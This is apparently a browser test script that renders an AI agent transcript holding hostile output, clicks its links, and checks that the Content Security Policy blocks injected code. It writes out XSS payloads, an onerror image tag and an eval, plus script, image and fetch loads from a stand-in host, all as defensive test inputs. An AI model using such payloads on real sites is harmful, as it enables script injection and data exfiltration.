// A transcript that wants to be more than text. Every link in it is clicked.
import { given, play } from "./view.mjs";

await play(async (view) => {
  const { page } = view;
  const dialogs = [];
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  const pages = [];
  view.context.on("page", (opened) => pages.push(opened.url()));
  await view.show({ view: "transcript", agent: given.agent });
  await page.waitForSelector(".request");
  for (const fold of await page.$$(".fold-head[aria-expanded=false]")) await fold.click();
  await page.waitForSelector("text=hostile output");
  const links = await page.$$("[data-item] a");
  for (const link of links) {
    await link.click();
    await link.press("Enter");
  }
  const inside = await page.evaluate(() => ({
    owned: window.owned ?? null,
    elements: [
      ...new Set(
        [...document.querySelectorAll("[data-item] *")].map((e) => e.tagName.toLowerCase()),
      ),
    ],
    handlers: [...document.querySelectorAll("*")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on")),
    ),
    addresses: [...document.querySelectorAll("[data-item] [src], [data-item] [href]")].map(
      (element) => element.getAttribute("src") ?? element.getAttribute("href"),
    ),
  }));
  const fetched = [...view.fetched];
  const words = await page.$$eval("[data-item]", (all) => all.map((item) => item.textContent));

  // The policy holds by itself too: what would be injected is refused by the browser.
  const refused = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const tries = {
      html: () => (document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=owned=1>"), ""),
      eval: () => eval("window.owned = 2"),
      script: () => {
        const script = document.createElement("script");
        script.src = "http://elsewhere.test/a.js";
        document.head.append(script);
      },
      picture: () => (new Image().src = "http://elsewhere.test/p.png"),
      fetch: () => fetch("http://elsewhere.test/f").catch(() => {}),
    };
    const thrown = [];
    // Out of the debugger's call, to which the browser allows more than to a page.
    await new Promise((resolve) => setTimeout(resolve));
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
      } catch {
        thrown.push(name);
      }
    }
    // What is refused is told a moment later, and what is not is done by then.
    const wanted = ["connect-src", "img-src", "require-trusted-types-for"];
    for (let looks = 0; looks < 2 || (looks < 100 && !wanted.every((one) => violations.includes(one))); looks++)
      await new Promise((resolve) => setTimeout(resolve, 100));
    return { thrown, violations: [...new Set(violations)].sort(), owned: window.owned ?? null };
  });
  return {
    dialogs,
    pages,
    address: page.url(),
    fetched,
    actions: view.actions,
    links: links.length,
    words: words.join("\n"),
    ...inside,
    refused,
  };
});
